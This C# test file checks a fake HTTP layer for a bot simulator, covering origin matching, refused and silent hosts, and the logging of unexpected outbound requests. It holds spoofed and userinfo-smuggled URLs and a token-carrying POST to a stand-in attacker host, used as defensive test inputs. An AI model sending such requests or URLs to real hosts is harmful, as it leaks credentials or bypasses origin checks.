using System.Net;
using System.Net.Http.Headers;
using System.Net.Sockets;
using System.Text;
using Microsoft.Extensions.Time.Testing;

namespace BotReport.Rooms.Tests.Channels.BotFramework.Simulator;

/// <summary>Where requests go, and that nothing goes unseen.</summary>
public sealed class FakeInternetTests : IDisposable
{
    private readonly FakeTimeProvider _clock = new(new(2024, 11, 15, 8, 0, 0, TimeSpan.Zero));
    private readonly FakeInternet _internet;
    private readonly HttpClient _http;

    public FakeInternetTests()
    {
        _internet = new(_clock);
        _http = new(_internet);
        _internet.Register(new("https://one.example"), (_, _) => Task.FromResult(new HttpResponseMessage(HttpStatusCode.Accepted)));
    }

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    public void Dispose()
    {
        _http.Dispose();
        _internet.Dispose();
    }

    [Theory]
    [InlineData("https://one.example/a?b=c", true)]
    [InlineData("https://ONE.example:443/a", true)] // the same origin, written differently
    [InlineData("http://one.example:443/a", false)] // the scheme is part of it
    [InlineData("https://one.example:8443/a", false)]
    [InlineData("https://one.example.evil.example/a", false)]
    [InlineData("https://one.example@evil.example/a", false)]
    public async Task A_request_reaches_the_server_of_its_origin_or_is_a_leak(string address, bool reaches)
    {
        using var answer = await _http.GetAsync(new Uri(address), Cancel);

        Assert.Equal(reaches ? HttpStatusCode.Accepted : HttpStatusCode.OK, answer.StatusCode);
        Assert.Equal(reaches ? 0 : 1, _internet.Leaks.Count);
        Assert.Single(_internet.Requests);
    }

    [Fact]
    public async Task A_leak_says_when_it_happened_and_whether_it_carried_a_token()
    {
        _clock.Advance(TimeSpan.FromSeconds(5));
        using var request = new HttpRequestMessage(HttpMethod.Post, "https://evil.example/v3/x");
        request.Content = new StringContent("周报", Encoding.UTF8);
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", "secret");
        using var answer = await _http.SendAsync(request, Cancel);

        Assert.Equal("{}", await answer.Content.ReadAsStringAsync(Cancel));
        Assert.Equal([new(_clock.GetUtcNow(), HttpMethod.Post, new("https://evil.example/v3/x"), true, 6, false)], _internet.Leaks.ToArray());
    }

    [Fact]
    public async Task A_host_that_is_down_refuses_the_connection()
    {
        _internet.Refuse(new("https://one.example"));

        var thrown = await Assert.ThrowsAsync<HttpRequestException>(() => _http.GetAsync(new Uri("https://one.example/a"), Cancel));

        Assert.Equal(SocketError.ConnectionRefused, Assert.IsType<SocketException>(thrown.InnerException).SocketErrorCode);
        Assert.Empty(_internet.Leaks);
    }

    [Fact]
    public async Task A_silent_host_is_given_up_by_the_caller_alone()
    {
        _internet.Silence(new("https://one.example"));
        using var giveUp = CancellationTokenSource.CreateLinkedTokenSource(Cancel);
        var asked = _http.GetAsync(new Uri("https://one.example/a"), giveUp.Token);

        Assert.False(asked.IsCompleted);
        await giveUp.CancelAsync();
        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => asked);
        Assert.Single(_internet.Requests);
    }
}
